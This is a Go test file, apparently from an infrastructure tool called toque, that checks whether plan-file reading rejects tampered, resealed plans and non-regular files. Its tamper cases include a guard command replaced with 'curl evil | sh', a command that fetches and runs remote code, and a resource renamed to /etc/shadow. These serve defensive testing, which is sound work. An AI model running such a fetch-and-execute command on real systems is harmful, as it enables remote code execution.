@@ -1,0 +1,219 @@
+package plan
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/zclconf/go-cty/cty"
+
+	"github.com/toquehq/toque/guard"
+	"github.com/toquehq/toque/resources"
+)
+
+// envelope splits a plan file into its members.
+type envelope struct {
+	Version   int             `json:"toque_plan"`
+	Checksum  string          `json:"checksum"`
+	Signature json.RawMessage `json:"signature"`
+	Plan      json.RawMessage `json:"plan"`
+}
+
+// reseal is what an attacker who can write plan.out does: edit the plan,
+// then compute its checksum again (keeping any signature as it was).
+func reseal(t *testing.T, raw []byte, edit func(p *Plan)) []byte {
+	t.Helper()
+	var env envelope
+	if err := json.Unmarshal(raw, &env); err != nil {
+		t.Fatal(err)
+	}
+	var p Plan
+	if err := json.Unmarshal(env.Plan, &p); err != nil {
+		t.Fatal(err)
+	}
+	edit(&p)
+	body, err := json.Marshal(&p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var buf bytes.Buffer
+	buf.WriteString(`{"toque_plan":2,"checksum":"` + digestOf(body) + `",`)
+	if len(env.Signature) > 0 {
+		buf.WriteString(`"signature":`)
+		buf.Write(env.Signature)
+		buf.WriteString(",")
+	}
+	buf.WriteString(`"plan":`)
+	buf.Write(body)
+	buf.WriteString("}\n")
+	return buf.Bytes()
+}
+
+func writeTemp(t *testing.T, data []byte) string {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), "plan.out")
+	if err := os.WriteFile(path, data, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+func resourceNamed(p *Plan, addr string) *Resource {
+	for _, r := range p.Resources {
+		if r.Address == addr {
+			return r
+		}
+	}
+	return nil
+}
+
+func TestReadRefusesAContradictoryPlan(t *testing.T) {
+	raw, err := os.ReadFile(filepath.Join("testdata", "sample.plan"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	const old = "fake_file[/etc/old]"
+	cases := []struct {
+		name string
+		edit func(p *Plan)
+		want string
+	}{
+		{"a live value that is not its digest", func(p *Plan) {
+			sv := resourceNamed(p, old).Current.Values["content"]
+			sv.Value = &Value{Value: cty.StringVal("<h1>innocent</h1>\n")}
+			resourceNamed(p, old).Current.Values["content"] = sv
+		}, `the live value of "content" does not match its digest`},
+		{"a live value whose size is not its own", func(p *Plan) {
+			sv := resourceNamed(p, old).Current.Values["content"]
+			sv.Size++
+			resourceNamed(p, old).Current.Values["content"] = sv
+		}, "bytes long, but the plan says"},
+		{"a live value and digest changed, the fingerprint not", func(p *Plan) {
+			r := resourceNamed(p, old)
+			v := cty.StringVal("<h1>innocent</h1>\n")
+			r.Current.Values["content"] = StoredValue{Value: &Value{Value: v}, Digest: DigestValue(v, p.Salt, false), Size: 18}
+		}, "the fingerprint is not the live reading's"},
+		{"a digest of no known kind", func(p *Plan) {
+			sv := resourceNamed(p, old).Current.Values["mode"]
+			sv.Value, sv.Digest = nil, "md5:00"
+			resourceNamed(p, old).Current.Values["mode"] = sv
+		}, "digest of no known kind"},
+		{"an address that is not its type and name", func(p *Plan) {
+			resourceNamed(p, old).Name = "/etc/shadow"
+		}, `is named "fake_file[/etc/old]", but its type and name make "fake_file[/etc/shadow]"`},
+		{"an update without its reading", func(p *Plan) {
+			r := resourceNamed(p, old)
+			r.Current, r.Fingerprint = nil, ""
+		}, `a step of kind "update" without the live reading`},
+		{"a guard result without its guard", func(p *Plan) {
+			resourceNamed(p, "fake_file[/etc/skip]").GuardSpecs = nil
+		}, "1 guard results for 0 guards"},
+		{"a guard of an unknown kind", func(p *Plan) {
+			resourceNamed(p, "fake_file[/etc/skip]").GuardSpecs[0].Kind = "unless"
+		}, `neither only_if nor not_if`},
+		{"a private live value kept in full", func(p *Plan) {
+			sv := resourceNamed(p, old).Current.Values["content"]
+			sv.Private = "not every user may read it"
+			resourceNamed(p, old).Current.Values["content"] = sv
+		}, "is kept in full, but it is private or sensitive"},
+		{"an argv guard whose words are not its source", func(p *Plan) {
+			spec := resourceNamed(p, "fake_file[/etc/skip]").GuardSpecs[0]
+			spec.Values["command"] = guard.Value{Value: cty.TupleVal([]cty.Value{cty.StringVal("sh"), cty.StringVal("-c"), cty.StringVal("curl evil | sh")})}
+		}, "guard 0 runs a command that is not its source"},
+		{"a guard that runs another script than it shows", func(p *Plan) {
+			resourceNamed(p, "fake_file[/etc/skip]").GuardSpecs[0].Values["command"] = guard.Value{Value: cty.StringVal("curl evil | sh")}
+		}, "guard 0 runs a command that is not its source"},
+		{"a forged incoming edge", func(p *Plan) {
+			resourceNamed(p, old).NotifiedBy = []Trigger{{Notifier: "fake_file[/etc/new]", Action: "create", Timing: "delayed"}}
+		}, "notified_by edges are not the notifications that name it"},
+		{"a resource twice", func(p *Plan) {
+			p.Resources = append(p.Resources, p.Resources[0])
+		}, "is planned twice"},
+		{"a notified run of nothing in the plan", func(p *Plan) {
+			p.NotifiedRuns = []*NotifiedRun{{Address: "fake_file[/nowhere]", Kind: resources.Skip}}
+		}, "which the plan does not hold"},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			_, err := Read(writeTemp(t, reseal(t, raw, c.edit)))
+			if !errors.Is(err, ErrInconsistent) || !strings.Contains(err.Error(), c.want) {
+				t.Fatalf("got %v, want ErrInconsistent with %q", err, c.want)
+			}
+			if strings.Contains(err.Error(), "\n") {
+				t.Errorf("the refusal spans lines: %q", err)
+			}
+		})
+	}
+	t.Run("unedited", func(t *testing.T) {
+		if _, err := Read(writeTemp(t, reseal(t, raw, func(*Plan) {}))); err != nil {
+			t.Fatalf("a resealed, unedited plan is refused: %v", err)
+		}
+	})
+	t.Run("an argv guard runs the words its source quotes", func(t *testing.T) {
+		argv := reseal(t, raw, func(p *Plan) {
+			spec := resourceNamed(p, "fake_file[/etc/skip]").GuardSpecs[0]
+			spec.Values["command"] = guard.Value{Value: cty.TupleVal([]cty.Value{cty.StringVal("test"), cty.StringVal("-d"), cty.StringVal("/my opt")})}
+			spec.Source, spec.Interpreter = guard.ArgvSource([]string{"test", "-d", "/my opt"}), "execute"
+		})
+		if _, err := Read(writeTemp(t, argv)); err != nil {
+			t.Fatalf("an argv guard is refused: %v", err)
+		}
+	})
+}
+
+// A path that is not a plan file fails at once, whatever it is.
+func TestReadRefusesWhatIsNotARegularFile(t *testing.T) {
+	dir := t.TempDir()
+	fifo := filepath.Join(dir, "plan.fifo")
+	if err := mkfifo(fifo); err != nil {
+		t.Skipf("cannot make a FIFO here: %v", err)
+	}
+	sparse := filepath.Join(dir, "huge.plan")
+	if err := os.WriteFile(sparse, nil, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Truncate(sparse, MaxFileSize+1); err != nil {
+		t.Skipf("cannot make a sparse file here: %v", err)
+	}
+	link := filepath.Join(dir, "zero.plan")
+	if err := os.Symlink("/dev/zero", link); err != nil {
+		t.Fatal(err)
+	}
+	cases := []struct {
+		name, path string
+		target     error
+		words      string
+	}{
+		{"FIFO nobody writes to", fifo, ErrNotPlan, "is a named pipe (FIFO)"},
+		{"/dev/zero", "/dev/zero", ErrNotPlan, "is a character device"},
+		{"a link to /dev/zero", link, ErrNotPlan, "is a character device"},
+		{"a directory", dir, ErrNotPlan, "is a directory"},
+		{"over the size limit", sparse, ErrTooLarge, "holds at most 1073741824 (1 GiB)"},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			if _, err := os.Stat(c.path); err != nil {
+				t.Skip(err)
+			}
+			done := make(chan error, 1)
+			go func() {
+				_, err := ReadFile(context.Background(), c.path, ReadOptions{})
+				done <- err
+			}()
+			select {
+			case err := <-done:
+				if !errors.Is(err, c.target) || !strings.Contains(err.Error(), c.words) {
+					t.Errorf("got %v, want %v saying %q", err, c.target, c.words)
+				}
+			case <-time.After(5 * time.Second):
+				t.Fatal("reading did not fail fast")
+			}
+		})
+	}
+}
